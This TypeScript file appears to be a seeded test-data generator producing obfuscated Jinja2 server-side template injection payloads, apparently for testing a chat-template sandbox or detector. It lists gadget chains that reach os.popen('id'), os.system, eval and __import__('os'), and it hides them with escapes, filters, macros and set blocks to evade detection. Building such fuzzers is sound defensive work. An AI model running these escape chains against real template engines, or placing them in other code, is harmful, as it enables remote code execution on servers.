/**
 * A grammar-based generator of obfuscated Jinja2 SSTI payloads (seeded, deterministic). A payload is a gadget
 * chain (a start object and the attribute names that walk it to `os`/`eval`) in which each step's name is
 * written by one of many encodings (attribute, item, `|attr`, `|map(attribute=)`, `|selectattr`), each
 * name possibly built at run time (escapes, `~`, `+`, `|join`, `|format`, `|replace`, `|reverse`, slicing,
 * `*`, `set`, loops, macros, `{% set %}` blocks), and the whole wrapped in statements with random whitespace
 * control. Every payload it emits is a real escape attempt in an unsandboxed Jinja2 environment.
 */
import { Rng } from '../../../src/data/generators/rng.js';

/** Gadget chains: a start expression and the names walked from it (the last may be called). */
const CHAINS: Array<{ start: string[]; path: string[]; call?: string }> = [
  {
    start: ["''", '()', '[]', '{}', 'messages', 'message.content', '1', 'bos_token'],
    path: ['__class__', '__mro__'],
    call: '',
  },
  {
    start: ["''", '()', 'messages[0]', '"x"'],
    path: ['__class__', '__base__', '__subclasses__'],
    call: '()',
  },
  { start: ['lipsum'], path: ['__globals__', 'os', 'popen'], call: "('id')" },
  { start: ['lipsum'], path: ['__globals__', '__builtins__', 'eval'], call: "('1+1')" },
  { start: ['cycler'], path: ['__init__', '__globals__', 'os', 'popen'], call: "('id')" },
  { start: ['joiner'], path: ['__init__', '__globals__', 'os', 'system'], call: "('id')" },
  { start: ['namespace'], path: ['__init__', '__globals__', '__builtins__', '__import__'], call: "('os')" },
  { start: ['request'], path: ['application', '__globals__', '__builtins__', '__import__'], call: "('os')" },
  { start: ['config'], path: ['__class__', '__init__', '__globals__', 'os'] },
  { start: ['self'], path: ['_TemplateReference__context', 'cycler', '__init__', '__globals__', 'os'] },
  { start: ['self'], path: ['__init__', '__globals__', '__builtins__'] },
  { start: ['raise_exception', 'strftime_now', 'range'], path: ['__globals__', '__builtins__'] },
  { start: ['message', 'messages', 'tools[0]', 'loop'], path: ['__init__', '__globals__'] },
  { start: ["''"], path: ['__class__', '__mro__', '__getitem__'], call: '(1)' },
];

/** Ways to write a string literal (escapes). */
function literal(r: Rng, s: string): string {
  const q = r.pick(["'", '"']);
  const mode = r.int(5);
  let body = '';
  for (const ch of s) {
    const c = ch.charCodeAt(0);
    if (mode === 1 && ch === '_') body += '\\x5f';
    else if (mode === 2 && r.int(3) === 0) body += `\\x${c.toString(16).padStart(2, '0')}`;
    else if (mode === 3 && r.int(3) === 0) body += `\\u${c.toString(16).padStart(4, '0')}`;
    else if (mode === 4 && r.int(3) === 0) body += `\\${c.toString(8)}`;
    else body += ch === q ? `\\${q}` : ch;
  }
  return `${q}${body}${q}`;
}

function splits(r: Rng, s: string): string[] {
  if (s.length < 2) return [s];
  const n = 1 + r.int(Math.min(4, s.length - 1));
  const cuts = new Set<number>();
  while (cuts.size < n) cuts.add(1 + r.int(s.length - 1));
  const at = [0, ...[...cuts].sort((a, b) => a - b), s.length];
  return at.slice(1).map((e, i) => s.slice(at[i], e));
}

/**
 * An expression whose value is `name`, built by one of the obfuscations; `pre` collects statements
 * (`set`, macros) it needs before use.
 */
function nameExpr(r: Rng, name: string, pre: string[], vars: { n: number }): string {
  const kind = r.int(13);
  const v = () => `v${vars.n++}`;
  switch (kind) {
    case 0:
      return splits(r, name)
        .map((p) => literal(r, p))
        .join(r.pick([' ~ ', '~', ' + ']));
    case 1:
      return `[${splits(r, name)
        .map((p) => literal(r, p))
        .join(', ')}]|join`;
    case 2: {
      const fmt = name.replace(/_/g, '%c');
      const n = (name.match(/_/g) ?? []).length;
      return n
        ? `${literal(r, fmt)}|format(${Array(n).fill('95').join(', ')})`
        : `${literal(r, '%s')}|format(${literal(r, name)})`;
    }
    case 3:
      return `${literal(r, [...name].reverse().join(''))}|reverse|join`;
    case 4:
      return `${literal(r, name.replace(/_/g, '.'))}|replace(${literal(r, '.')}, ${literal(r, '_')})`;
    case 5:
      return `${literal(r, `zz${name}yy`)}[2:-2]`;
    case 6: {
      const u = v();
      pre.push(`{%${r.pick(['', '-'])} set ${u} = ${literal(r, '_')} ${r.pick(['', '-'])}%}`);
      return name.replace(/^_+|_+$/g, '') === name
        ? literal(r, name)
        : [`${u}~${u}`, literal(r, name.replace(/^_+|_+$/g, '')), `${u}~${u}`].join(' ~ ');
    }
    case 7: {
      const k = v();
      pre.push(`{% set ${k} = ${nameExpr(r, name, pre, vars)} %}`);
      return k;
    }
    case 8: {
      const m = v();
      pre.push(`{% macro ${m}() %}${name}{% endmacro %}`);
      return `${m}()`;
    }
    case 9: {
      const k = v();
      pre.push(`{% set ${k} %}${name}{% endset %}`);
      return k;
    }
    case 10:
      return `${literal(r, '_')}*2 ~ ${literal(r, name.replace(/^_+|_+$/g, ''))} ~ ${literal(r, '_')}*2`;
    case 11:
      return `(${literal(r, name)}|string)`;
    default:
      return `[${literal(r, name)}]|map(${literal(r, 'string')})|first`;
  }
}

/** One access step: `obj` followed by the attribute `name`, in one of the access forms. */
function access(r: Rng, obj: string, name: string, pre: string[], vars: { n: number }): string {
  const direct = /^[A-Za-z_]\w*$/.test(name);
  const form = r.int(direct ? 8 : 7);
  switch (form) {
    case 0:
      return `${obj}[${literal(r, name)}]`;
    case 1:
      return `${obj}[${nameExpr(r, name, pre, vars)}]`;
    case 2:
      return `(${obj}|attr(${r.int(2) ? literal(r, name) : nameExpr(r, name, pre, vars)}))`;
    case 3:
      return `([${obj}]|map(attribute=${r.int(2) ? literal(r, name) : nameExpr(r, name, pre, vars)})|first)`;
    case 4:
      return `([${obj}]|map(${literal(r, 'attr')}, ${nameExpr(r, name, pre, vars)})|list)[0]`;
    case 5: {
      const k = `v${vars.n++}`;
      pre.push(`{% for ${k} in [${nameExpr(r, name, pre, vars)}] %}{% endfor %}`);
      return `${obj}[${nameExpr(r, name, pre, vars)}]`;
    }
    case 6:
      return `(${obj}|selectattr(${nameExpr(r, name, pre, vars)})|first)`;
    default:
      return `${obj}.${name}`;
  }
}

/** Wrap the payload expression in statements, whitespace control and a bit of a real template. */
function wrap(r: Rng, expr: string, pre: string[]): string {
  const ws = () => r.pick(['', ' ', '  ', '\n', '\t ']);
  const dash = () => r.pick(['', '-', '+']);
  const vdash = () => r.pick(['', '-']);
  let body: string;
  switch (r.int(6)) {
    case 0:
      body = `{{${vdash()}${ws()}${expr}${ws()}${vdash()}}}`;
      break;
    case 1:
      body = `{%${dash()} set out = ${expr} ${vdash()}%}{{ out }}`;
      break;
    case 2:
      body = `{% for message in messages %}{%${dash()} if loop.first ${vdash()}%}{{ ${expr} }}{% endif %}{% endfor %}`;
      break;
    case 3:
      body = `{% macro render() %}{{ ${expr} }}{% endmacro %}{{ render() }}`;
      break;
    case 4:
      body = `{% if ${expr} %}x{% endif %}`;
      break;
    default:
      body = `{% print ${expr} %}`;
  }
  const decoy = r.pick([
    '',
    '{# a comment with {{ and }} #}',
    '{% raw %}{{ not code }}{% endraw %}',
    "{{ bos_token }}{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}{% endfor %}",
  ]);
  return r.int(2) ? `${decoy}${pre.join('')}${body}` : `${pre.join('')}${body}${decoy}`;
}

/** `n` distinct payloads from `seed`. */
export function generatePayloads(seed: number, n: number): string[] {
  const r = new Rng(seed);
  const out = new Set<string>();
  let guard = 0;
  while (out.size < n && guard++ < n * 20) {
    const chain = r.pick(CHAINS);
    const pre: string[] = [];
    const vars = { n: 0 };
    let expr = r.pick(chain.start);
    for (const step of chain.path) expr = access(r, expr, step, pre, vars);
    if (chain.call !== undefined && r.int(3)) expr = `${expr}${chain.call}`;
    if (r.int(4) === 0) expr = `${expr}.read()`;
    out.add(wrap(r, expr, pre));
  }
  return [...out];
}
